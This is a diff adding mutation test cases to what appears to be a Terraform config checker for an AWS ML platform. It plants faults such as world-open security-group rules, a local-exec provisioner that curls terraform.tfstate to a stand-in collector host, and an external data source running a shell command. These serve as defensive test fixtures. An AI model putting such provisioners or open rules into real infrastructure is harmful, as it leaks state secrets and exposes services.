@@ -91,6 +91,11 @@ def append(file: str, text: str) -> Edit:
     return Edit(file, apply)
 
 
+def new_file(file: str, text: str) -> Edit:
+    """A file tfgen never wrote, put into a root: terraform reads it with the rest."""
+    return Edit(file, lambda root: (root / file).write_text(text))
+
+
 def remove_root(root_name: str) -> Edit:
     def apply(root: Path) -> None:
         for path in (root / root_name).glob("*"):
@@ -123,6 +128,19 @@ FRAUD_5XX = 'resource "aws_cloudwatch_metric_alarm" "fraud_scoring_5xx_rate"'
 FRAUD_P99 = 'resource "aws_cloudwatch_metric_alarm" "fraud_scoring_p99_latency"'
 TOPIC = "arn:aws:sns:eu-west-1:333333333333:acme-sm-alarms"
 MPG_AML = "arn:aws:sagemaker:eu-west-1:333333333333:model-package-group/rc-anti-money-laundering"
+
+WORLD_OPEN_JSON = """{
+  "resource": {
+    "aws_vpc_security_group_ingress_rule": {
+      "training_from_anywhere": {
+        "security_group_id": "${aws_security_group.training.id}",
+        "ip_protocol": "-1",
+        "cidr_ipv4": "0.0.0.0/0"
+      }
+    }
+  }
+}
+"""
 
 MUTANTS: list[Mutant] = [
     Mutant("22 open to the world on training", "TFG-SG-003",
@@ -190,9 +208,17 @@ MUTANTS: list[Mutant] = [
     Mutant("the S3 gateway on one route table of three", "TFG-EP-001",
            in_block(EP, 'resource "aws_vpc_endpoint" "s3"', '    "rtb-0c1b2c3d4e5f60022",\n', ""),
            "platform:aws_vpc_endpoint.s3"),
-    Mutant("an interface endpoint in one subnet only", "TFG-EP-001",
+    Mutant("an interface endpoint missing a zone", "TFG-EP-002",
            in_block(EP, 'resource "aws_vpc_endpoint" "logs"', '    "subnet-0c1b2c3d4e5f60013",\n', ""),
-           "platform:aws_vpc_endpoint.logs"),
+           "platform:aws_vpc_endpoint.logs", mentions="no subnet in eu-west-1c"),
+    Mutant("two subnets of one zone on ecr.dkr", "TFG-EP-002",
+           in_block(EP, 'resource "aws_vpc_endpoint" "ecr_dkr"', '"subnet-0c1b2c3d4e5f60013"',
+                    '"subnet-0c1b2c3d4e5f60012"'),
+           "platform:aws_vpc_endpoint.ecr_dkr", mentions="2 subnets in eu-west-1b"),
+    Mutant("sts in a subnet the YAML does not name", "TFG-EP-001",
+           in_block(EP, 'resource "aws_vpc_endpoint" "sts"', '"subnet-0c1b2c3d4e5f60013"',
+                    '"subnet-0c1b2c3d4e5f60099"'),
+           "platform:aws_vpc_endpoint.sts", mentions="subnet-0c1b2c3d4e5f60099"),
     Mutant("an endpoint the YAML does not ask for", "TFG-EP-001",
            append(EP, 'resource "aws_vpc_endpoint" "ssm" {\n  vpc_id = "vpc-0c1b2c3d4e5f60001"\n'
                       '  service_name = "com.amazonaws.eu-west-1.ssm"\n  vpc_endpoint_type = "Interface"\n'
@@ -236,9 +262,14 @@ MUTANTS: list[Mutant] = [
            "teams/algo:aws_ecr_lifecycle_policy.recommendation_engine_preprocessing"),
     # The policies live in locals, one per number of images kept: an edit there changes every
     # repository that refers to it (the first local of teams/rc is anti-money-laundering's).
-    Mutant("the catch-all rule evaluated first", "TFG-ECR-001",
+    Mutant("the build rule evaluated first", "TFG-ECR-001",
            replace("teams/rc/ecr.tf", "rulePriority = 4", "rulePriority = 0"),
            "teams/rc:aws_ecr_lifecycle_policy.anti_money_laundering_training"),
+    # ECR ranks every image under a tagStatus any rule, releases and untagged ones included:
+    # as the last rule it would expire builds that "the newest N builds" promises to keep.
+    Mutant("the build rule turned into a catch-all on any tag", "TFG-ECR-001",
+           replace("teams/algo/ecr.tf", 'tagStatus = "tagged", tagPrefixList = ["build-"]', 'tagStatus = "any"'),
+           "teams/algo:aws_ecr_lifecycle_policy.recommendation_engine_preprocessing"),
     Mutant("untagged images kept ten years", "TFG-ECR-001",
            replace("platform/ecr.tf", "countNumber = 7 }", "countNumber = 3650 }"),
            "platform:aws_ecr_lifecycle_policy.shared_base_xgboost"),
@@ -445,6 +476,26 @@ MUTANTS: list[Mutant] = [
     Mutant("a team root deleted", "TFG-PROV-001", remove_root("teams/algo"), "teams/algo", mentions="teams/algo"),
     Mutant("the ManagedBy tag dropped", "TFG-PROV-002",
            replace("platform/providers.tf", '      ManagedBy   = "tfgen"\n', ""), "platform:provider.aws"),
+    # Terraform reads every .tf and .tf.json file of a root, override files merged over the rest.
+    Mutant("a world-open rule in a .tf.json file tfgen did not write", "TFG-SRC-001",
+           new_file("platform/world.tf.json", WORLD_OPEN_JSON), "platform", mentions="JSON syntax"),
+    Mutant("an override file opening the inference port to the world", "TFG-SRC-001",
+           new_file("platform/override.tf", 'resource "aws_vpc_security_group_ingress_rule" '
+                                            '"inference_container_from_vpc" {\n  cidr_ipv4 = "0.0.0.0/0"\n}\n'),
+           "platform", mentions="an override file"),
+    Mutant("count = 0 on an endpoint alarm", "TFG-SRC-002",
+           replace(RC_ENDPOINTS, FRAUD_5XX + " {\n", FRAUD_5XX + " {\n  count = 0\n"),
+           "teams/rc:aws_cloudwatch_metric_alarm.fraud_scoring_5xx_rate", mentions="count = 0"),
+    Mutant("a local-exec provisioner on terraform_data", "TFG-SRC-002",
+           append(ALARMS, 'resource "terraform_data" "notify" {\n  provisioner "local-exec" {\n'
+                          '    command = "curl -d @terraform.tfstate https://collector.example"\n  }\n}\n'),
+           "platform:terraform_data.notify", mentions="local-exec"),
+    Mutant("an external data source", "TFG-SRC-002",
+           append(RC_ENDPOINTS, 'data "external" "context" {\n  program = ["sh", "-c", "id"]\n}\n'),
+           "teams/rc:data.external.context", mentions='data "external"'),
+    Mutant("a module call", "TFG-SRC-002",
+           append(RC_ENDPOINTS, 'module "extra" {\n  source = "./extra"\n}\n'),
+           "teams/rc:module.extra", mentions="a module call"),
 ]
 
 
